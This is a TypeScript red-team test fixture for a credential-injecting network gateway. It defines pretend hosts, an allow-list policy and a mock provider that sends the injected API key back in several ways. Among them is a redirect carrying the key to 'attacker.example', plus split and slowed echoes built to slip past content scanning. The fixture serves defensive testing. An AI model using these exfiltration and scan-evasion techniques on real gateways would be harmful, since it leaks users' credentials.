// The hosts of the pretend internet that the attacks are about, and the policy of the gateway under attack. Names that are not
// allowed are pinned to the pretend internet too: what slips past the door arrives there and is seen.
import { gzipSync } from 'node:zlib';
import { type PretendHost, type PretendResponse, reply, type SeenRequest } from '../internet/pretend-world.ts';

/** Allowed; its credential goes to /v1/** only. Sends back what it was sent. */
export const providerHost = 'api.provider.example';
/** Allowed by its preset, whose credential goes to the paths of inference. Plays the provider as well. */
export const modelHost = 'api.anthropic.com';
/** Allowed, without any credential. */
export const plainHost = 'plain.example';
/** Allowed: `*.wild.example`. */
export const wildApex = 'wild.example';
/** Allowed undecrypted. */
export const tunnelHost = 'pinned.example';
/** Not allowed. */
export const foreignHost = 'attacker.example';
/** Allowed by name, but it leads to the gateway's own machine. */
export const inwardHost = 'localhost';

export const ownRepository = 'acme/widgets';
export const foreignRepository = 'other/private';
export const neighbourRepository = 'neighbour/garden';
/** As GitHub counts them; they stand in node ids. */
export const repositoryNumbers = { own: 4_711, foreign: 815, neighbour: 1_234 } as const;

export interface PolicyParts {
  /** Address of the pretend internet. */
  readonly world: string;
  readonly caFile: string;
  readonly credentialFiles: Readonly<Record<'github' | 'provider', string>>;
  readonly inwardPort: number;
}

/** The document of the gateway under attack. */
export function redteamPolicy({ world, caFile, credentialFiles, inwardPort }: PolicyParts): Record<string, unknown> {
  const pinned = [
    providerHost,
    modelHost,
    plainHost,
    `*.${wildApex}`,
    wildApex,
    tunnelHost,
    foreignHost,
    `*.${foreignHost}`,
    'github.com',
    'api.github.com',
    'uploads.github.com',
  ];
  return {
    version: 1,
    listen: { proxy: '127.0.0.1:0' },
    allow: [
      { preset: 'github' },
      { preset: 'anthropic' },
      { host: providerHost },
      { host: plainHost, ports: [443, 80], plain_http: true },
      { host: `*.${wildApex}` },
      { host: tunnelHost, tunnel: true },
      { host: inwardHost, ports: [inwardPort], plain_http: true },
    ],
    credentials: {
      github: { source: { file: credentialFiles.github } },
      anthropic: { source: { file: credentialFiles.provider } },
      provider: {
        hosts: [providerHost],
        paths: ['/v1/**'],
        inject: { header: 'x-api-key' },
        source: { file: credentialFiles.provider },
      },
    },
    upstream: { resolve: Object.fromEntries(pinned.map((name) => [name, world])), ca: caFile },
  };
}

/** The paths under which the provider sends the credential back, each in another way. */
export const echoPaths = {
  header: '/v1/echo-header',
  body: '/v1/echo-body',
  gzip: '/v1/echo-gzip',
  split: '/v1/echo-split',
  slow: '/v1/echo-slow',
  error: '/v1/echo-error',
  location: '/v1/echo-location',
  socket: '/v1/echo-socket',
} as const;

/** Sends the client on to a host of the attacker. */
export const redirectPath = '/v1/redirect';

export const provider: PretendHost = {
  serve(request, response, seen) {
    request.on('end', () => echo(response, seen, String(request.headers['x-api-key'] ?? 'no key came')));
  },
  upgrade(request, socket) {
    const key = String(request.headers['x-api-key'] ?? 'no key came');
    // RFC 6455 4.2.2: the fixed answer is not checked by the attacker, which reads bytes.
    socket.write('HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n');
    socket.write('Sec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\n\r\n');
    socket.write(Buffer.concat([Buffer.from([0x81, key.length]), Buffer.from(key)]));
  },
};

function echo(response: PretendResponse, { url, method }: SeenRequest, key: string): void {
  switch (url) {
    case echoPaths.header:
      reply(response, 200, { ok: true }, { 'x-you-sent': key });
      return;
    case echoPaths.body:
      reply(response, 200, { headers: { 'x-api-key': key } });
      return;
    case echoPaths.gzip:
      reply(response, 200, gzipSync(JSON.stringify({ key })), { 'content-encoding': 'gzip' });
      return;
    case echoPaths.error:
      reply(response, 401, { error: `the key ${key} is not valid` });
      return;
    case redirectPath:
      reply(response, 302, undefined, { location: `https://${foreignHost}/collect` });
      return;
    case echoPaths.location:
      reply(response, 302, undefined, { location: `https://${foreignHost}/?key=${key}` });
      return;
    case echoPaths.split:
      echoInPieces(response, key, 20, 20);
      return;
    case echoPaths.slow:
      echoInPieces(response, key, 5, 150);
      return;
    default:
      reply(response, 200, { reached: providerHost, method, url });
  }
}

/** So that a search of each piece by itself, or one that does not wait, finds nothing. */
function echoInPieces(response: PretendResponse, key: string, length: number, pauseMs: number): void {
  response.writeHead(200, { 'content-type': 'text/plain' });
  const pieces = key.match(new RegExp(`.{1,${length}}`, 'g')) ?? [];
  const next = (i: number): void => {
    if (i === pieces.length) response.end('\n');
    else response.write(pieces[i]!, () => setTimeout(next, pauseMs, i + 1));
  };
  next(0);
}
